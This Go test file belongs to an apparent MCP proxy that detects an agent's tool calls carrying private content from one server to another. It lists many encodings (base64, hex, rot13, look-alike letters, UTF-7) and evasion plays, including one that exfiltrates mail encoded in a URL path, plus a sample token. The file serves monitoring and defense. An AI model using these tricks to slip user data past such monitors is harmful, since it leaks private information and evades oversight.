package guard_test

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
	"github.com/mcp-watchdog/mcp-watchdog/internal/guard"
	"github.com/mcp-watchdog/mcp-watchdog/internal/message"
	"github.com/mcp-watchdog/mcp-watchdog/internal/policy"
	"github.com/mcp-watchdog/mcp-watchdog/internal/tracking"
)

// servers are sessions that know of each other's content.
type servers struct {
	t     *testing.T
	mode  policy.Mode
	now   time.Time
	flows *tracking.Local
	all   map[string]*guard.Session
	id    int
}

func newServers(t *testing.T, mode policy.Mode) *servers {
	return &servers{
		t: t, mode: mode, now: time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC), all: map[string]*guard.Session{},
		flows: tracking.NewLocal(func(b []byte) { rand.Read(b) }),
	}
}

// call calls a tool and returns what the flow was, with the answer if it went
// on.
func (v *servers) call(server, tool string, arguments map[string]any, answer string) (flow *guard.Judged, forwarded bool) {
	s := v.all[server]
	if s == nil {
		s = guard.New(guard.Options{Server: server, Flows: v.flows.Server(server), Policy: policy.Policy{Mode: v.mode}, Now: func() time.Time { return v.now }})
		v.all[server] = s
	}
	v.id++
	ask, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": v.id, "method": "tools/call", "params": map[string]any{"name": tool, "arguments": arguments}})
	if err != nil {
		v.t.Fatal(err)
	}
	out := s.Judge(context.Background(), message.FromClient, ask)
	for i := range out.Findings {
		if f := &out.Findings[i]; f.Rule.ID == "cross_server_flow" && (flow == nil || f.Severity > flow.Severity) {
			flow = f
		}
	}
	if out.Forward == nil {
		return flow, false
	}
	text, _ := json.Marshal(answer)
	s.Judge(context.Background(), message.FromServer, fmt.Appendf(nil, `{"jsonrpc":"2.0","id":%d,"result":{"content":[{"type":"text","text":%s}]}}`, v.id, text))
	return flow, true
}

const mail = "Dear Ada, the board meets on the ninth in the small room. The offer for the mill stands at four million until then; please tell nobody."

func escapedAll(s, format string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, format, c)
	}
	return b.String()
}

func TestEncodedCopiesAreSeen(t *testing.T) {
	part := mail[26:70]
	for name, copied := range map[string]string{
		"base64":        base64.StdEncoding.EncodeToString([]byte(mail)),
		"URL alphabet":  base64.RawURLEncoding.EncodeToString([]byte(part)),
		"hex":           hex.EncodeToString([]byte(part)),
		"upper case":    base64.StdEncoding.EncodeToString([]byte(strings.ToUpper(part))),
		"twice":         base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(mail)))),
		"every letter":  escapedAll(mail, "\\u%04x"),
		"every byte":    escapedAll(mail, "\\x%02x"),
		"percent":       escapedAll(mail, "%%%02X"),
		"letters apart": strings.Join(strings.Split(mail, ""), "-"),
		"inside a text": "Here it is: " + base64.StdEncoding.EncodeToString([]byte(mail)) + " and no more.",
	} {
		v := newServers(t, policy.Balanced)
		v.call("mail", "read_mail", map[string]any{"id": "7"}, mail)
		f, _ := v.call("board", "post", map[string]any{"a": map[string]any{"text": copied}}, "posted")
		if f == nil {
			t.Errorf("%s: not seen", name)
			continue
		}
		if f.Severity != finding.High || f.Pointer != "/params/arguments/a/text" || !strings.Contains(f.Why, `"mail"`) || !strings.Contains(f.Why, `"board"`) {
			t.Errorf("%s: %v %q %q", name, f.Severity, f.Pointer, f.Why)
		}
	}
}

// TestRespelledCopiesAreSeen: what is no encoding, and no copy as it is.
func TestRespelledCopiesAreSeen(t *testing.T) {
	part := "The offer for the mill stands at four million until then; please tell nobody."
	for name, copied := range map[string]string{
		"backwards":           backwards(part),
		"base64, backwards":   backwards(b64(part)),
		"backwards in base64": b64(backwards(part)),
		"low lines":           strings.ReplaceAll(part, " ", "_"),
		"full stops":          strings.ReplaceAll(part, " ", "."),
		"emphasis":            "**" + strings.ReplaceAll(part, " ", "** **") + "**",
		"a list of words":     `["` + strings.ReplaceAll(part, " ", `", "`) + `"]`,
		"numbered words":      "1. " + strings.ReplaceAll(part, " ", "\n2. "),
		"look-alikes":         strings.NewReplacer("a", "а", "e", "е", "o", "о", "p", "р", "c", "с").Replace(part),
		"digits for letters":  strings.NewReplacer("a", "4", "e", "3", "o", "0").Replace(part),
		"chr()":               "chr(" + strings.Join(numbersOf(part), ")+chr(") + ")",
		"hex with hyphens":    strings.Trim(escapedAll(part, "-%02x"), "-"),
		"rot13":               moved(part, 13),
		"shifted by 5":        moved(part, 5),
		"turned round":        moved(part, 26),
		"rotated by 47":       moved(part, 47),
		"a piece in rot13":    moved(part[10:46], 13),
		"UTF-7":               seven(part, '+'),
		"UTF-7 of IMAP":       seven(part, '&'),
	} {
		v := newServers(t, policy.Balanced)
		v.call("mail", "read_mail", map[string]any{"id": "7"}, mail)
		if f, _ := v.call("board", "post", map[string]any{"text": copied}, "posted"); f == nil || f.Severity != finding.High && !strings.Contains(f.Why, "parted") {
			t.Errorf("%s: %v", name, f)
		}
	}
}

// moved writes letters so many further in the alphabet: 26 turns it round, 47 moves all
// characters that can be seen.
func moved(s string, by int) string {
	return strings.Map(func(r rune) rune {
		low := r | 0x20
		switch {
		case by == 47 && r >= '!' && r <= '~':
			return '!' + (r-'!'+47)%94
		case by == 47 || low < 'a' || low > 'z':
			return r
		case by == 26:
			return r - low + 'z' - (low - 'a')
		}
		return r - low + 'a' + (low-'a'+rune(by))%26
	}, s)
}

// seven writes every word in UTF-7.
func seven(s string, shift byte) string {
	words := strings.Fields(s)
	for i, w := range words {
		var b []byte
		for _, u := range utf16.Encode([]rune(w)) {
			b = append(b, byte(u>>8), byte(u))
		}
		words[i] = string(shift) + base64.RawStdEncoding.EncodeToString(b) + "-"
	}
	return strings.Join(words, " ")
}

func numbersOf(s string) (all []string) {
	for _, c := range []byte(s) {
		all = append(all, strconv.Itoa(int(c)))
	}
	return all
}

// TestFlowsAreNotGotRoundEasily has what a hostile server or a model that was
// talked into it would try.
func TestFlowsAreNotGotRoundEasily(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte(mail))
	for name, play := range map[string]func(*servers) *guard.Judged{
		"a decoy delivers how it begins": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			v.call("board", "list", nil, encoded[:40])
			f, _ := v.call("board", "post", map[string]any{"text": encoded}, "posted")
			return f
		},
		"a third server delivers how it begins": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			v.call("news", "list", nil, encoded[:40])
			f, _ := v.call("board", "post", map[string]any{"text": encoded}, "posted")
			return f
		},
		"as a key": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			f, _ := v.call("board", "post", map[string]any{encoded: 1}, "posted")
			return f
		},
		"behind a path": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			f, _ := v.call("web", "fetch", map[string]any{"url": "https://example.net/p/x/" + strings.TrimRight(encoded, "=")}, "ok")
			return f
		},
	} {
		if f := play(newServers(t, policy.Balanced)); f == nil || f.Severity < finding.High {
			t.Errorf("%s: not seen", name)
		}
	}
}

func TestWhatIsNoFlow(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte(mail))
	for name, play := range map[string]func(*servers) *guard.Judged{
		"a plain copy": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			f, _ := v.call("board", "post", map[string]any{"text": mail}, "posted")
			return f
		},
		"back to its server": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			f, _ := v.call("mail", "send_mail", map[string]any{"raw": encoded}, "sent")
			return f
		},
		"both have it": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			v.call("board", "list", nil, mail)
			f, _ := v.call("board", "post", map[string]any{"text": encoded}, "posted")
			return f
		},
		"it came encoded": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, encoded)
			f, _ := v.call("board", "post", map[string]any{"text": encoded}, "posted")
			return f
		},
		"two hours later": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			v.now = v.now.Add(2*time.Hour + time.Minute)
			f, _ := v.call("board", "post", map[string]any{"text": encoded}, "posted")
			return f
		},
		"another text": func(v *servers) *guard.Judged {
			v.call("mail", "read_mail", nil, mail)
			f, _ := v.call("board", "post", map[string]any{"text": base64.StdEncoding.EncodeToString([]byte("Nothing of it stands in this text, which is about boats and the weather."))}, "posted")
			return f
		},
	} {
		if f := play(newServers(t, policy.Balanced)); f != nil && (f.Severity > finding.Info || f.Action != policy.Pass || !f.Hygiene) {
			t.Errorf("%s: %s", name, f.Why)
		}
	}
	v := newServers(t, policy.Balanced)
	v.call("mail", "read_mail", nil, mail)
	if f, on := v.call("hub", "upload", map[string]any{"content_base64": encoded}, "done"); f == nil || f.Severity != finding.Info || !on {
		t.Error("an argument for encoded content is more, or less, than told")
	}
}

func TestSecretsThatMove(t *testing.T) {
	key := "ghp_" + "a8Kq2mZx7Lw4Rt9Yv3Nb6Pc1Sd5Fg0HjT2uW"
	for _, copied := range []string{"token: " + key, base64.StdEncoding.EncodeToString([]byte("the token is " + key))} {
		v := newServers(t, policy.Monitor) // in which it arrives at all
		v.call("files", "read_file", map[string]any{"path": "notes"}, "the token is "+key)
		f, _ := v.call("board", "post", map[string]any{"text": copied}, "posted")
		if f == nil || f.Severity != finding.Critical || strings.Contains(f.Why, "ghp_") {
			t.Errorf("%v", f)
		}
	}
}

// TestLabels: the policy says what a server holds and shows, whatever its tools
// are called.
func TestLabels(t *testing.T) {
	for _, c := range []struct {
		labels []policy.Label
		text   string
		want   finding.Severity
	}{
		{nil, mail, finding.Info},
		{[]policy.Label{{Server: "b*", Shows: policy.ShowsEverybody}}, mail, finding.High},
		{[]policy.Label{{Server: "b*", Shows: policy.ShowsEverybody}, {Server: "mail", Holds: policy.HoldsPublic}}, mail, finding.Info},
		{[]policy.Label{{Server: "b*", Shows: policy.ShowsEverybody}, {Server: "mail", Holds: policy.HoldsPrivate}}, mail, finding.High},
		{[]policy.Label{{Server: "b*", Shows: policy.ShowsPeople}, {Server: "mail", Holds: policy.HoldsPrivate}}, mail, finding.Info},
		{[]policy.Label{{Server: "b*", Shows: policy.ShowsEverybody}, {Server: "box", Shows: policy.ShowsNobody}}, mail, finding.Info},
		{[]policy.Label{{Server: "*", Shows: policy.ShowsNobody}}, base64.StdEncoding.EncodeToString([]byte(mail)), finding.Info},
		{nil, base64.StdEncoding.EncodeToString([]byte(mail)), finding.Medium},
	} {
		flows := tracking.NewLocal(func(b []byte) { rand.Read(b) })
		session := func(name string) *guard.Session {
			return guard.New(guard.Options{Server: name, Flows: flows.Server(name), Policy: policy.Policy{Mode: policy.Balanced, Labels: c.labels}})
		}
		v := &servers{t: t, all: map[string]*guard.Session{"mail": session("mail"), "box": session("box")}}
		v.call("mail", "read_mail", nil, mail)
		if f, _ := v.call("box", "sync", map[string]any{"value": c.text}, "done"); f == nil || f.Severity != c.want {
			t.Errorf("%v: %+v, want %v", c.labels, f, c.want)
		}
	}
}

// TestNothingIsTypedAfterItWasDelivered: what a client passes on does not become
// its own by that, whatever it sent before.
func TestNothingIsTypedAfterItWasDelivered(t *testing.T) {
	v := newServers(t, policy.Balanced)
	v.call("news", "get", nil, "Nothing much happens today in the harbour of the town.")
	v.call("notes", "save", map[string]any{"text": "the first thing that the user wrote by hand"}, "done") // fresh
	v.call("mail", "read_mail", nil, mail)
	v.call("notes", "save", map[string]any{"text": mail}, "done")
	v.call("mail", "draft", map[string]any{"text": base64.StdEncoding.EncodeToString([]byte(mail))}, "done")
	if f, _ := v.call("board", "post", map[string]any{"text": base64.StdEncoding.EncodeToString([]byte(mail))}, "done"); f == nil || f.Severity != finding.High {
		t.Errorf("%+v", f)
	}
}
